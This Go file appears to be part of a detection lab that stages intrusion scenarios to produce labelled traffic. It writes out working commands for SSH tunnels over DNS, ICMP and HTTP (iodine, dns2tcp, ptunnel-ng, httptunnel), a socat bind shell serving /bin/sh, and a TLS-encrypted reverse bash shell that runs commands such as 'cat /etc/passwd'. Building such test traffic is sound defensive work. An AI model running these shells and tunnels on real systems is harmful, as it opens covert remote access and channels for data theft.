package lab

import (
	"context"
	"fmt"
	"time"

	"firetower/internal/attack"
)

// tunnels: a session of SSH carried out of the network inside of DNS, pings or pages,
// by the programs made for it, and shells that TLS hides.
func tunnels() []Scenario {
	row := func(name string, play func(context.Context, *Run, *Host, *Host) error) Scenario {
		return Scenario{Name: name, Class: attack.Infiltration, Also: []attack.Class{attack.Bot}, Limit: 60 * time.Second, Play: func(ctx context.Context, r *Run) error {
			return intrude(ctx, r, play)
		}}
	}
	through := func(name, far, near, use string) Scenario {
		return row(name, func(ctx context.Context, r *Run, in, boss *Host) error {
			return carried(ctx, r, in, boss, far, near, use)
		})
	}
	const ssh = "for i in 1 2 3 4; do sshpass -p wrong ssh " + sshOptions + " -p 2222 alice@127.0.0.1 true; sleep 2; done"
	return []Scenario{
		through("iodine", "iodined -f -P secret -c 10.53.0.1/24 ZONE", "iodine -f -P secret C2 ZONE",
			"sleep 4; ping -c 8 -i 0.5 10.53.0.1; head -c 60000 /dev/urandom | timeout 12 nc -q 1 10.53.0.1 22"),
		through("dns2tcp", "printf 'listen = 0.0.0.0\\nport = 53\\nuser = root\\nchroot = /tmp\\ndomain = ZONE\\nresources = ssh:127.0.0.1:22\\n' > d2t.conf; exec dns2tcpd -F -f d2t.conf",
			"dns2tcpc -z ZONE -r ssh -l 2222 C2", ssh),
		through("ptunnel", "ptunnel-ng -r127.0.0.1 -R22", "ptunnel-ng -pC2 -l2222 -r127.0.0.1 -R22", ssh),
		through("httptunnel", "hts -S -F 127.0.0.1:22 8888", "htc -S -F 2222 C2:8888", ssh),
		row("shell-tls", hiddenShell),
		row("shell-bound", func(ctx context.Context, r *Run, _, boss *Host) error {
			r.Truth.Attackers, r.Truth.Victims = append(r.Truth.Attackers[:0], boss.Addr), nil
			r.against(r.Shop)
			if err := r.Shop.Serve("socat", "TCP-LISTEN:1337,reuseaddr,fork", "EXEC:/bin/sh"); err != nil {
				return err
			}
			if err := r.Shop.Listening(ctx, 1337); err != nil {
				return err
			}
			r.play(ctx, boss, "(for c in id 'uname -a' 'cat /etc/passwd' 'ls -la /' 'ps aux'; do sleep 2; echo \"$c\"; done; sleep 2) | timeout 20 nc -q 1 %s 1337", r.Shop.Addr)
			return nil
		}),
	}
}

// carried opens the far end of a tunnel outside, the near end inside, and uses it.
func carried(ctx context.Context, r *Run, in, boss *Host, far, near, use string) error {
	if err := boss.ServeSSH(ctx, 22); err != nil {
		return err
	}
	zone := r.pick("t.files-sync.example", "x.cdn-metrics.example")
	fill := func(line string) string { return replace(line, "C2", boss.Addr.String(), "ZONE", zone) }
	if err := boss.Serve("sh", "-c", fill(far)); err != nil {
		return err
	}
	pause(ctx, time.Second)
	if err := in.Serve("sh", "-c", fill(near)); err != nil {
		return err
	}
	pause(ctx, 1500*time.Millisecond)
	r.note(fill(near))
	r.play(ctx, in, "%s", use)
	return nil
}

// hiddenShell is a shell that calls back inside of TLS, to a certificate of nobody.
func hiddenShell(ctx context.Context, r *Run, in, boss *Host) error {
	port := r.pick("4433", "8443", "9443") // 443 is the site's
	if err := shArgs(ctx, "openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-subj", "/CN="+r.pick("localhost", "a", "server"),
		"-keyout", boss.Dir+"/tls.pem", "-out", boss.Dir+"/tls.crt"); err != nil {
		return err
	}
	go boss.Shell(ctx, "(for c in id whoami 'cat /etc/passwd' 'ps aux' 'ls -la /etc' 'ss -tn' exit; do sleep 4; echo \"$c\"; done) | socat -t 5 - OPENSSL-LISTEN:%s,reuseaddr,cert=tls.crt,key=tls.pem,verify=0", port)
	pause(ctx, 800*time.Millisecond)
	r.play(ctx, in, "%s", fmt.Sprintf("timeout 35 socat OPENSSL:%s:%s,verify=0 EXEC:'/bin/bash -li',pty,stderr,setsid", boss.Addr, port))
	return nil
}
